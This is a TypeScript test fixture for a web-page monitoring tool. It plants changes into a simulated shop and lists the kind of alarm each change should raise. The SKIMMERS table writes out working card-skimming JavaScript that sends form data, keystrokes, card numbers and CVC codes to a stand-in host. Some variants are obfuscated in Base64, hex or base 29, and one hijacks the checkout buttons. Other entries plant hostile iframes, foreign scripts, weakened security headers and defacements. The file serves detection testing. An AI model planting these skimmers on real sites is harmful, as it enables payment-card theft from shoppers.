import type { ScriptChangeKind } from '@palisade/vocabulary';
import {
  account,
  APP,
  FORM,
  GOODS,
  HOSTED,
  LAYER,
  type LabShop,
  labShop,
  LISTENING,
  LOGO,
  MANAGER,
  ORDERS,
  TAGS,
} from './lab-shop';

export interface PlantedChange {
  name: string;
  shop: LabShop;
  kind: ScriptChangeKind;
}

const EVIL = 'https://cdn-metrics.example.org/c';
const BASE64 = Buffer.from(EVIL).toString('base64');
const HEX = [...EVIL].map((letter) => `\\x${letter.charCodeAt(0).toString(16)}`).join('');
const CODES = [...EVIL].map((letter) => letter.charCodeAt(0)).join(',');

/** What skimmers of public reports do. */
const SKIMMERS: Readonly<Record<string, string>> = {
  'form data by fetch': `document.forms[0].addEventListener('submit',function(e){fetch('${EVIL}',{method:'POST',body:new FormData(e.target)})});`,
  'keys by XMLHttpRequest': `document.addEventListener('keyup',function(e){var x=new XMLHttpRequest();x.open('POST','${EVIL}');x.send(e.target.value)});`,
  'an image as a beacon': `setInterval(function(){new Image().src='${EVIL}?d='+btoa(document.querySelector('#cc-number').value)},2000);`,
  sendBeacon: `window.addEventListener('beforeunload',function(){navigator.sendBeacon('${EVIL}',document.forms[0].cardNumber.value)});`,
  'a WebSocket': `var ws=new WebSocket('wss://cdn-metrics.example.org/w');document.onkeydown=function(e){ws.send(e.key)};`,
  'an address in Base64': `document.forms[0].onsubmit=function(){fetch(atob('${BASE64}'),{method:'POST',body:document.forms[0].cvc.value})};`,
  'an address in escapes': `document.forms[0].onsubmit=function(){fetch('${HEX}',{method:'POST',body:document.forms[0].cvc.value})};`,
  'an address as numbers': `var u=String.fromCharCode(${CODES});document.forms[0].onsubmit=function(){new Image().src=u+document.forms[0].cvc.value};`,
  'a second form in a frame': `var f=document.createElement('iframe');f.src='${EVIL}';document.forms[0].replaceWith(f);`,
  'a script that is loaded later': `setTimeout(function(){var s=document.createElement('script');s.src='${EVIL}.js';document.body.appendChild(s)},9000);`,
  'a store on the site itself': `setInterval(function(){localStorage.setItem('_k',JSON.stringify([].map.call(document.forms[0].elements,function(i){return i.value})))},500);`,
  // magento/magento2#40466: one long text, numbers in base 29, and a function that is made of them.
  'a program as numbers': `var j = "1k3t30${[...EVIL].map((letter) => letter.charCodeAt(0).toString(29)).join('t30')}", p = j.split("t30"), o = [], n; for (n = 1; n < p.length; n++) o.push(String.fromCharCode(parseInt(p[n], 29))); Function(o.join(''))();`,
  // gwillem/magento-malware-scanner#147: the buttons of the checkout lead to another payment page.
  'other handlers of the buttons': `jQuery(document).ready(function(){if(!(document.cookie.indexOf('userpayid')+1))jQuery('*[onclick="payment.save()"]').attr('onclick','paynow();')});function paynow(){document.cookie='userpayid='+Math.random();jQuery(location).attr('href','//paymentpal.example.org/?payment='+btoa(location.host))}`,
  'a path of the site itself': `document.forms[0].addEventListener('submit',function(e){fetch('/img/p.gif',{method:'POST',body:new FormData(e.target)})});`,
};

/** The page with pictures: what is above its goods. */
const goods = (above: string, more: Partial<LabShop> = {}): LabShop =>
  labShop({ pages: { ...labShop().pages, '/goods': `${above}${GOODS.join('')}` }, ...more });

type Place = readonly [name: string, kind: ScriptChangeKind, plant: (skimmer: string) => LabShop];

const base = labShop();

const PLACES: readonly Place[] = [
  [
    'as a program in the page',
    'script_added',
    (skimmer) => labShop({ body: `${base.body}<script>${skimmer}</script>` }),
  ],
  ['in the own file', 'script_changed', (skimmer) => labShop({ own: { '/app.js': `${APP}\n${skimmer}` } })],
  [
    'in the file of the tag manager',
    'script_changed',
    (skimmer) => labShop({ foreign: { ...base.foreign, [TAGS]: `${MANAGER}${skimmer}` } }),
  ],
  [
    'in a program that the page had',
    'script_changed',
    (skimmer) => labShop({ head: base.head.replace(LAYER, `${LAYER}${skimmer}`) }),
  ],
  [
    'in a file that the tag manager loads',
    'script_added',
    (skimmer) => {
      const url = 'https://widgets.example.com/w.js';
      return labShop({
        foreign: { ...base.foreign, [url]: skimmer },
        ran: [...base.ran, { url, initiator: TAGS, contacts: [] }],
      });
    },
  ],
];

const skimmers = Object.entries(SKIMMERS).flatMap(([skimmer, program]) =>
  PLACES.map(([place, kind, plant]): PlantedChange => ({
    name: `${skimmer}, ${place}`,
    kind,
    shop: plant(program),
  })),
);

const csp = (policy: string): LabShop =>
  labShop({ headers: { ...base.headers, 'content-security-policy': policy } });
const without = (name: string): LabShop =>
  labShop({ headers: Object.fromEntries(Object.entries(base.headers).filter(([each]) => each !== name)) });
const withForm = (form: string): LabShop => labShop({ body: base.body.replace(FORM, form) });

/** The page where a payment provider shows its own fields. */
const hosted = (frames: string): LabShop => labShop({ pages: { '/hosted': frames } });

const listening = (more: Partial<typeof LISTENING>): LabShop =>
  labShop({ listeners: [LISTENING, { ...LISTENING, ...more }] });

const others: readonly (readonly [string, ScriptChangeKind, LabShop])[] = [
  [
    'a handler of an image',
    'script_added',
    labShop({ body: `${base.body}<img src=x onerror="fetch('${EVIL}')">` }),
  ],
  [
    'a file of another host',
    'script_added',
    labShop({ head: `${base.head}<script src="${EVIL}.js"></script>` }),
  ],
  [
    'a module',
    'script_added',
    labShop({ head: `${base.head}<script type="module" src="${EVIL}.mjs"></script>` }),
  ],
  [
    'another domain in the same program',
    'script_changed',
    labShop({
      foreign: { ...base.foreign, [TAGS]: MANAGER.replace('stats.example.net', 'stats-example.org') },
    }),
  ],
  [
    'a domain that the file contacts and does not name',
    'script_changed',
    labShop({
      ran: [
        { url: 'https://stats.example.net/s.js', initiator: TAGS, contacts: ['cdn-metrics.example.org'] },
      ],
    }),
  ],
  [
    'the file of the tag manager is gone',
    'script_removed',
    labShop({ head: base.head.replace(`src="${TAGS}"`, 'type="a/b"') }),
  ],
  ['the policy is gone', 'header_changed', without('content-security-policy')],
  [
    'the policy allows another host',
    'header_changed',
    csp("default-src 'self'; script-src 'self' 'nonce-n0' https:"),
  ],
  [
    'the policy allows programs in the page',
    'header_changed',
    csp("default-src 'self'; script-src 'self' 'unsafe-inline' https://tags.example.net"),
  ],
  [
    'the policy only reports',
    'header_changed',
    labShop({
      headers: {
        'strict-transport-security': 'max-age=31536000; includeSubDomains',
        'x-frame-options': 'DENY',
        'content-security-policy-report-only': "default-src 'self'",
      },
    }),
  ],
  ['HSTS is gone', 'header_changed', without('strict-transport-security')],
  ['frames of others are allowed', 'header_changed', without('x-frame-options')],
  ['a form of another host', 'form_changed', withForm(FORM.replace('/pay/17', EVIL))],
  ['a frame over the form', 'form_changed', withForm(`${FORM}<iframe src="${EVIL}"></iframe>`)],
  [
    'a frame next to that of a payment provider',
    'form_changed',
    hosted(`${HOSTED}<iframe src="${EVIL}"></iframe>`),
  ],
  [
    'a frame in the place of that of a payment provider',
    'form_changed',
    hosted(`<p>Pay here</p><iframe src="${EVIL}"></iframe>`),
  ],
  ['a form of another path', 'form_changed', withForm(FORM.replace('/pay/17', '/wp-content/p'))],
  ['a script that was there listens to the card number', 'listener_added', listening({ script: TAGS })],
  ['a script of the site listens to keys too', 'listener_added', listening({ events: ['keydown'] })],
  [
    'a program of the page hears of all keys',
    'listener_added',
    listening({ script: null, at: 'page', events: ['keydown'] }),
  ],
  [
    'a script that was there hears what the form sends',
    'listener_added',
    listening({ at: 'form', events: ['submit'] }),
  ],
  [
    'a new file that listens',
    'script_added',
    labShop({
      head: `${base.head}<script src="${EVIL}.js"></script>`,
      listeners: [LISTENING, { ...LISTENING, script: `${EVIL}.js` }],
    }),
  ],
  [
    'a new program that listens by the library of the site',
    'script_added',
    labShop({
      body: `${base.body}<script>${SKIMMERS['form data by fetch'] ?? ''}</script>`,
      listeners: [LISTENING, { ...LISTENING, events: ['keyup'] }],
    }),
  ],
  ['a file on a page of an account', 'script_added', account(`${ORDERS}<script src="${EVIL}.js"></script>`)],
  [
    'a program on a page of an account',
    'script_added',
    account(`${ORDERS}<script>${SKIMMERS.sendBeacon ?? ''}</script>`),
  ],
  [
    'a form on a page of an account',
    'form_changed',
    account(`${ORDERS}<form method="post" action="${EVIL}"><input name="q"></form>`),
  ],
  [
    'a file for accounts alone, on the page with the card form',
    'script_added',
    labShop({ account: { ...base.account, head: `${base.head}<script src="${EVIL}.js"></script>` } }),
  ],
  [
    'the policy is gone for accounts',
    'header_changed',
    account(ORDERS, { headers: { ...base.headers, 'content-security-policy': '' } }),
  ],
  [
    'the page says something else',
    'page_changed',
    labShop({ body: `<h1>Owned by the ghost crew</h1><p>Nothing here is safe any more</p>${FORM}` }),
  ],
  ['another logo', 'page_changed', goods(LOGO.replace('logo', 'owned'))],
  [
    'another logo on another host',
    'page_changed',
    goods(LOGO.replace('/img/logo', 'https://i.example.org/x')),
  ],
  [
    'a logo that is called so',
    'page_changed',
    goods('<img src="/img/skull.png" class="site-logo">', { contents: {} }),
  ],
  // edgi-govdata-archiving/web-monitoring#91, webmonitoring/pagemon-chrome-ext#205
  ['other bytes of the logo', 'page_changed', labShop({ contents: { '/img/logo.png': 'ffff' } })],
  [
    'a picture behind the whole page',
    'page_changed',
    goods(`${LOGO}<style>.a{color:red}body{background:#000 url(/img/skull.jpg) center/cover}</style>`),
  ],
  [
    'a picture behind the whole page in its element',
    'page_changed',
    goods(`${LOGO}<body background="/x.gif">`),
  ],
];

/** Each is one change of the shop, and the kind of it that an alarm has to name. */
export const PLANTED: readonly PlantedChange[] = [
  ...skimmers,
  ...others.map(([name, kind, shop]) => ({ name, kind, shop })),
  // What is shown to other visitors only.
  { name: 'a skimmer for telephones alone', kind: 'script_added', shop: base },
];
